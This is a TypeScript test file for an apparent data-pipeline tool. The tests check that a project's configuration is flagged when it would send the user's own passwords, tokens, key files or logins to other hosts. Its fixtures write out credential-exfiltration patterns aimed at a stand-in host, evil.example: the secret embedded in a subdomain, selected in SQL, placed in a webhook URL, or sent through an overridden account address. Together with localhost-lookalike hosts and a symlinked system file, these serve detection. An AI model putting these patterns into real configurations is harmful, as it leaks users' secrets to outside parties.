import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { z } from "zod/mini";
import { expect, test } from "vitest";
import { loadFiles } from "../../test/support/load-files.js";
import { SOURCE_TYPES } from "../sources/registry.js";
import { ownValues } from "./own-values.js";
import { FIELD_MARKS } from "./source-config/field-marks.js";
import type { DeclaredSourceType } from "./source-types.js";

const env = { SHOP_PASSWORD: "own", SHOP_HOST: "db.example", NEAR: "localhost" };

/** Sentences of what would be sent where. */
async function sent(yaml: string, files: Readonly<Record<string, string>> = {}) {
  const project = await loadFiles({ "headwater.yml": yaml, ...files }, { env });
  return ownValues(project).map(({ what, host }) => `${what} → ${host}`);
}

const source = (fields: string) =>
  `sources: [{ name: s, type: postgresql, database: d, ${fields} }]`;

test("a variable of the process that a source sends to another machine is the user's own", async () => {
  const own = ["the variable `SHOP_PASSWORD` → db.example"];
  expect(await sent(source("host: db.example, password: '${env.SHOP_PASSWORD}'"))).toEqual(own);
  const jinja = `host: db.example, password: "{{ env_var('SHOP_PASSWORD') }}"`;
  expect(await sent(source(jinja))).toEqual(own);
  // The process's value wins over that of the project's file.
  const file = { ".env": "SHOP_PASSWORD=theirs\n" };
  expect(await sent(source("host: db.example, password: '${env.SHOP_PASSWORD}'"), file)).toEqual(
    own,
  );
});

test("a value may leave inside a name, an address or the SQL", async () => {
  expect(await sent(source("host: '${env.SHOP_PASSWORD}.evil.example'"))).toEqual([
    "the variable `SHOP_PASSWORD` → ${env.SHOP_PASSWORD}.evil.example",
  ]);
  const sql = `models: [{ name: m, source: ref(s), sql: "select '{{ env_var('SHOP_PASSWORD') }}'" }]`;
  expect(await sent(`${source("host: evil.example, password: x")}\n${sql}`)).toEqual([
    "the variable `SHOP_PASSWORD` → evil.example",
  ]);
  const hook = "https://hooks.example/${env.SHOP_PASSWORD}";
  const alert = `destinations: [{ name: d, type: slack, webhook_url: "${hook}" }]`;
  expect(await sent(alert)).toEqual(["the variable `SHOP_PASSWORD` → hooks.example"]);
});

test.each([
  ["this machine", "host: 127.0.0.1, password: '${env.SHOP_PASSWORD}'"],
  ["this machine by a variable", "host: '${env.NEAR}', password: '${env.SHOP_PASSWORD}'"],
  ["a socket", "host: /run/postgresql, password: '${env.SHOP_PASSWORD}'"],
  ["no host", "password: '${env.SHOP_PASSWORD}'"],
  ["what is the project's own", "host: db.example, password: '${env.OTHER:-x}'"],
])("nothing is asked about %s", async (_, fields) => {
  expect(await sent(source(fields), { ".env": "OTHER=theirs\n" })).toEqual([]);
});

test("a host is this machine by its whole name only", async () => {
  for (const host of [
    "127.0.0.1.evil.example",
    "localhost.evil.example",
    "evil.example/127.0.0.1",
  ]) {
    expect(await sent(source(`host: ${host}, password: '\${env.SHOP_PASSWORD}'`))).toHaveLength(1);
  }
});

test("a file of services may name any host", async () => {
  const fields = "servicefile: '${env.SHOP_HOST}', service: s, password: '${env.SHOP_PASSWORD}'";
  expect(await sent(source(fields))).toEqual([
    "the variable `SHOP_HOST` → the host of its service",
    "the variable `SHOP_PASSWORD` → the host of its service",
  ]);
});

test("key files outside the project and logins of the machine are the user's own", async () => {
  const cloud: DeclaredSourceType = {
    type: "cloud",
    description: "A service.",
    config: z.strictObject({
      url: z.string(),
      key_file: z.optional(z.string()).register(FIELD_MARKS, { path: true }),
    }),
    dialect: "postgresql",
    isolation: "thread",
    file: false,
    pool: 1,
    ownLogin: ({ key_file }) => (key_file === undefined ? "the login of this machine" : undefined),
  };
  const found = async (fields: string) => {
    const yaml = `sources: [{ name: c, type: cloud, url: "https://cloud.example/v1"${fields} }]`;
    const sourceTypes = new Map([...SOURCE_TYPES, ["cloud", cloud] as const]);
    const project = await loadFiles({ "headwater.yml": yaml }, { sourceTypes });
    const link = join(project.root, "linked.pem");
    mkdirSync(join(project.root, "keys"));
    writeFileSync(join(project.root, "keys", "own.pem"), "");
    symlinkSync("/etc/hostname", link);
    return ownValues(project).map(({ what, host }) => `${what} → ${host}`);
  };
  expect(await found("")).toEqual(["the login of this machine → cloud.example"]);
  expect(await found(", key_file: /etc/ssl/key.pem")).toEqual([
    "the file `/etc/ssl/key.pem` → cloud.example",
  ]);
  expect(await found(", key_file: linked.pem")).toHaveLength(1);
  expect(await found(", key_file: keys/own.pem")).toEqual([]);
});

test("an account's given address goes before the name of the account", async () => {
  const account = (fields: string) =>
    `sources: [{ name: s, type: snowflake, account: ours, username: u, database: d, ${fields} }]`;
  const token = "token: '${env.SHOP_PASSWORD}'";
  expect(await sent(account(token))).toEqual(["the variable `SHOP_PASSWORD` → ours"]);
  expect(await sent(account(`${token}, access_url: "https://evil.example"`))).toEqual([
    "the variable `SHOP_PASSWORD` → evil.example",
  ]);
  expect(await sent(account("token_path: /home/me/token"))).toEqual([
    "the file `/home/me/token` → ours",
  ]);
  expect(await sent(account("authenticator: browser"))).toEqual([
    "your single sign-on in the browser → ours",
  ]);
});
